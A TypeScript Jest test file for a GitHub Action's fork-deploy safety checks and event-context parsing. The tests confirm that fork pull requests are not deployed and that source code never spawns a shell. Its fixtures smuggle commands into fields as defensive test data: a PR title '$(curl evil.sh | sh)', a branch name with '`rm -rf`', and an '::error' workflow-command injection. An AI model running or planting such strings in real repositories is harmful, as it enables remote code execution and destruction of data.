import { describe, expect, it } from "@jest/globals";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { readEventContext, type EventContext } from "../src/github/context.js";
import { checkEvent } from "../src/github/safety.js";

const repo = (id: number, fullName: string): Record<string, unknown> => ({ id, full_name: fullName });

function prPayload(head: Record<string, unknown> | null, number: number | undefined = 7): string {
  return JSON.stringify({
    number,
    pull_request: {
      number,
      title: "$(curl evil.sh | sh)",
      head: { ref: "feature/`rm -rf`", sha: "abc123", repo: head },
      base: { ref: "main", repo: repo(1, "octo/spaceflights") },
    },
    repository: repo(1, "octo/spaceflights"),
  });
}

function context(
  eventName: string,
  payload: string | undefined,
  extra: Record<string, string> = {},
): EventContext {
  return readEventContext(
    {
      GITHUB_EVENT_NAME: eventName,
      GITHUB_REPOSITORY: "octo/spaceflights",
      GITHUB_SHA: "f00d",
      GITHUB_RUN_ID: "4242",
      GITHUB_SERVER_URL: "https://github.com",
      ...(payload === undefined ? {} : { GITHUB_EVENT_PATH: "/event.json" }),
      ...extra,
    },
    (path) => {
      if (path !== "/event.json" || payload === undefined) throw new Error(`ENOENT: ${path}`);
      return payload;
    },
  );
}

describe("readEventContext", () => {
  it("reads a same-repository pull request", () => {
    const ctx = context("pull_request", prPayload(repo(1, "octo/spaceflights")));
    expect(ctx).toMatchObject({
      eventName: "pull_request",
      repo: { owner: "octo", repo: "spaceflights" },
      sha: "f00d",
      pullRequest: { number: 7, isFork: false, headRepo: "octo/spaceflights", headSha: "abc123" },
      runUrl: "https://github.com/octo/spaceflights/actions/runs/4242",
      warnings: [],
    });
  });

  it("detects forks by repository id, and a deleted fork as a fork", () => {
    expect(context("pull_request", prPayload(repo(2, "eve/spaceflights"))).pullRequest?.isFork).toBe(true);
    expect(context("pull_request", prPayload(null)).pullRequest).toMatchObject({
      isFork: true,
      headRepo: null,
    });
    // A renamed base still has the same id.
    expect(context("pull_request", prPayload(repo(1, "octo/old-name"))).pullRequest?.isFork).toBe(false);
  });

  it("warns about a pull request event without a number", () => {
    const ctx = context("pull_request", JSON.stringify({ action: "opened" }));
    expect(ctx.pullRequest).toBeNull();
    expect(ctx.warnings).toEqual([expect.stringContaining("no pull request number")]);
  });

  it("warns about an unreadable payload and goes on", () => {
    const ctx = context("push", "{not json");
    expect(ctx.warnings).toEqual([expect.stringMatching(/^Could not read the event payload \/event.json/)]);
    expect(context("push", undefined).warnings).toEqual([]);
  });

  it("points at the run attempt whose summary holds the plan", () => {
    expect(context("push", undefined, { GITHUB_RUN_ATTEMPT: "3" }).runUrl).toBe(
      "https://github.com/octo/spaceflights/actions/runs/4242/attempts/3",
    );
  });
});

describe("checkEvent", () => {
  const fork = context("pull_request", prPayload(repo(2, "eve/spaceflights")));
  const same = context("pull_request", prPayload(repo(1, "octo/spaceflights")));

  it.each(["pull_request", "pull_request_target"])("refuses to deploy a fork's %s", (eventName) => {
    const check = checkEvent({ ...fork, eventName }, "deploy", "deploy");
    expect(check.refusal).toMatchObject({ reason: "fork-deploy" });
    expect(check.refusal?.message).toContain(
      "whose code comes from a fork (eve/spaceflights, from pull_request.head.repo)",
    );
    expect(check.refusal?.hint).toContain("mode");
  });

  it("refuses to deploy a pull request it cannot show comes from this repository", () => {
    const unknown = context("pull_request_target", JSON.stringify({}));
    expect(checkEvent(unknown, "deploy", "deploy").refusal?.reason).toBe("fork-deploy");
  });

  it("plans forks (warning about pull_request_target), deploys same-repository pull requests when asked", () => {
    expect(checkEvent(fork, "auto", "plan")).toEqual({ warnings: [] });
    expect(checkEvent({ ...fork, eventName: "pull_request_target" }, "auto", "plan").warnings).toEqual([
      expect.stringContaining("pull_request_target from a fork"),
    ]);
    expect(checkEvent(same, "deploy", "deploy")).toEqual({ warnings: [] });
  });

  it("refuses an event it does not handle under auto, naming the ones it does", () => {
    const check = checkEvent(context("issue_comment", undefined), "auto", "deploy");
    expect(check.refusal).toEqual({
      reason: "unsupported-event",
      message:
        "The issue_comment event is not handled by kedro-sfn-action in 'mode: auto'; it supports pull_request, pull_request_target, push, workflow_dispatch.",
      hint: "Trigger the workflow on one of those, or set 'mode: plan' or 'mode: deploy' to choose explicitly.",
    });
  });

  it("runs an unknown event with an explicit mode, with a warning", () => {
    const check = checkEvent(context("schedule", undefined), "deploy", "deploy");
    expect(check.refusal).toBeUndefined();
    expect(check.warnings).toEqual([expect.stringContaining("running 'deploy' because 'mode' says so")]);
  });

  it("passes context warnings through; nothing to check outside Actions", () => {
    expect(checkEvent(context("pull_request", "{}"), "auto", "plan").warnings).toHaveLength(1);
    expect(checkEvent(context("", undefined), "auto", "deploy")).toEqual({ warnings: [] });
  });
});

/**
 * Payloads shaped as GitHub's webhook documentation gives them (trimmed to the fields that
 * matter plus a few that do not): repositories in pull requests are full objects with id and
 * full_name; in check suites' and check runs' pull_requests they are minimal ({id, name, url});
 * workflow_run carries head_repository and repository; issue_comment only a link to the PR.
 */
describe("the fork guard for every event type", () => {
  const base = {
    id: 1,
    node_id: "R_1",
    name: "spaceflights",
    full_name: "octo/spaceflights",
    private: false,
  };
  const fork = { id: 2, node_id: "R_2", name: "spaceflights", full_name: "eve/spaceflights", private: false };
  const mini = (r: typeof base) => ({
    id: r.id,
    name: r.name,
    url: `https://api.github.com/repos/${r.full_name}`,
  });
  const pullRequest = (head: typeof base | null) => ({
    url: "https://api.github.com/repos/octo/spaceflights/pulls/7",
    id: 99,
    number: 7,
    state: "open",
    title: "::error title=INJECTED::",
    head: { label: "eve:main", ref: "main", sha: "c0ffee", repo: head },
    base: { label: "octo:main", ref: "main", sha: "beef", repo: base },
  });
  const review = (head: typeof base | null) => ({
    action: "submitted",
    review: { id: 5, state: "approved", body: "lgtm" },
    pull_request: pullRequest(head),
    repository: base,
    sender: { login: "eve" },
  });
  const reviewComment = (head: typeof base | null) => ({
    action: "created",
    comment: { id: 6, body: "nit", path: "src/x.py" },
    pull_request: pullRequest(head),
    repository: base,
  });
  const reviewThread = (head: typeof base | null) => ({
    action: "resolved",
    thread: { node_id: "T_1", comments: [] },
    pull_request: pullRequest(head),
    repository: base,
  });
  const issueComment = (onPullRequest: boolean) => ({
    action: "created",
    issue: {
      number: 7,
      title: "deploy please",
      ...(onPullRequest
        ? { pull_request: { url: "https://api.github.com/repos/octo/spaceflights/pulls/7", merged_at: null } }
        : {}),
    },
    comment: { id: 8, body: "/deploy" },
    repository: base,
  });
  const workflowRun = (head: typeof base, event = "pull_request") => ({
    action: "completed",
    workflow_run: {
      id: 30,
      event,
      head_branch: "main",
      head_sha: "c0ffee",
      // GitHub leaves pull_requests empty for a fork's pull request.
      pull_requests: [],
      head_repository: head,
      repository: base,
    },
    workflow: { id: 3, name: "ci" },
    repository: base,
  });
  const checkSuite = (headBranch: string | null, pulls: unknown[] = []) => ({
    action: "completed",
    check_suite: {
      id: 40,
      head_branch: headBranch,
      head_sha: "c0ffee",
      status: "completed",
      pull_requests: pulls,
    },
    repository: base,
  });
  const checkRun = (headBranch: string | null, pulls: unknown[] = []) => ({
    action: "rerequested",
    check_run: {
      id: 41,
      name: "build",
      head_sha: "c0ffee",
      pull_requests: pulls,
      check_suite: { id: 40, head_branch: headBranch, head_sha: "c0ffee", pull_requests: pulls },
    },
    repository: base,
  });
  const minimalPull = (head: typeof base) => ({
    id: 99,
    number: 7,
    url: "https://api.github.com/repos/octo/spaceflights/pulls/7",
    head: { ref: "feature", sha: "c0ffee", repo: mini(head) },
    base: { ref: "main", sha: "beef", repo: mini(base) },
  });
  const mergeGroup = {
    action: "checks_requested",
    merge_group: {
      head_sha: "c0ffee",
      head_ref: "refs/heads/gh-readonly-queue/main/pr-7-beef",
      base_sha: "beef",
      base_ref: "refs/heads/main",
    },
    repository: base,
  };
  const push = { ref: "refs/heads/main", after: "c0ffee", repository: base, pusher: { name: "octo" } };

  const deploying = (eventName: string, payload: unknown) =>
    checkEvent(context(eventName, JSON.stringify(payload)), "deploy", "deploy");

  it.each([
    ["pull_request_review", review(fork), "eve/spaceflights", "pull_request.head.repo"],
    ["pull_request_review_comment", reviewComment(fork), "eve/spaceflights", "pull_request.head.repo"],
    ["pull_request_review_thread", reviewThread(fork), "eve/spaceflights", "pull_request.head.repo"],
    ["workflow_run", workflowRun(fork), "eve/spaceflights", "workflow_run.head_repository"],
    [
      "check_suite",
      checkSuite("feature", [minimalPull(fork)]),
      "eve/spaceflights",
      "check_suite.pull_requests[].head.repo",
    ],
  ])("refuses to deploy a %s whose head is a fork", (eventName, payload, repoShown, source) => {
    const check = deploying(eventName, payload);
    expect(check.refusal?.reason).toBe("fork-deploy");
    expect(check.refusal?.message).toContain(`comes from a fork (${repoShown}, from ${source})`);
  });

  it.each([
    ["pull_request_review", review(null), "pull_request.head.repo"],
    ["issue_comment", issueComment(true), "issue.pull_request"],
    ["check_suite", checkSuite(null), "check_suite.head_branch"],
    ["check_run", checkRun(null), "check_run.check_suite.head_branch"],
  ])("refuses to deploy a %s it cannot prove is this repository's code", (eventName, payload, source) => {
    const check = deploying(eventName, payload);
    expect(check.refusal?.reason).toBe("fork-deploy");
    expect(check.refusal?.message).toContain(`does not show the code comes from this repository (${source})`);
  });

  it.each([
    ["pull_request_review", review(base)],
    ["pull_request_review_comment", reviewComment(base)],
    ["workflow_run", workflowRun(base, "push")],
    ["check_suite", checkSuite("main")],
    ["check_run", checkRun("feature", [minimalPull(base)])],
    ["issue_comment", issueComment(false)],
    ["merge_group", mergeGroup],
    ["push", push],
  ])("lets an explicit deploy run on a %s of this repository's code", (eventName, payload) => {
    expect(deploying(eventName, payload).refusal).toBeUndefined();
  });

  it("decides by repository id (a renamed repository is still ours), by name without ids", () => {
    expect(
      deploying("workflow_run", workflowRun({ ...base, full_name: "octo/renamed" })).refusal,
    ).toBeUndefined();
    const named = workflowRun({ ...fork, id: undefined as unknown as number });
    expect(
      deploying("workflow_run", {
        ...named,
        workflow_run: { ...named.workflow_run, repository: { full_name: "octo/spaceflights" } },
      }).refusal?.reason,
    ).toBe("fork-deploy");
    expect(context("workflow_run", JSON.stringify(workflowRun(fork))).head).toEqual({
      source: "workflow_run.head_repository",
      repo: "eve/spaceflights",
      trust: "foreign",
    });
  });

  it("plans a fork's workflow_run, warning that it runs with this workflow's secrets", () => {
    const check = checkEvent(context("workflow_run", JSON.stringify(workflowRun(fork))), "plan", "plan");
    expect(check.refusal).toBeUndefined();
    expect(check.warnings).toEqual(
      expect.arrayContaining([expect.stringContaining("workflow_run from a fork")]),
    );
  });

  it("refuses under auto too: a fork's review resolves to deploy and is refused as a fork, not just as unknown", () => {
    const check = checkEvent(context("pull_request_review", JSON.stringify(review(fork))), "auto", "deploy");
    expect(check.refusal?.reason).toBe("fork-deploy");
  });
});

describe("nothing reaches a shell", () => {
  const files = (dir: string): string[] =>
    readdirSync(dir, { withFileTypes: true }).flatMap((e) =>
      e.isDirectory() ? files(join(dir, e.name)) : e.name.endsWith(".ts") ? [join(dir, e.name)] : [],
    );

  it("src/ never spawns through a shell (PR titles, branch and node names stay arguments)", () => {
    for (const file of files("src")) {
      const text = readFileSync(file, "utf8");
      expect({ file, shell: /\bshell\s*:\s*(true|["'`])/.test(text) }).toEqual({ file, shell: false });
      expect({
        file,
        exec: /import\s*\{[^}]*\bexec(Sync)?\b[^}]*\}\s*from\s*["'](node:)?child_process["']/.test(text),
      }).toEqual({
        file,
        exec: false,
      });
    }
  });
});
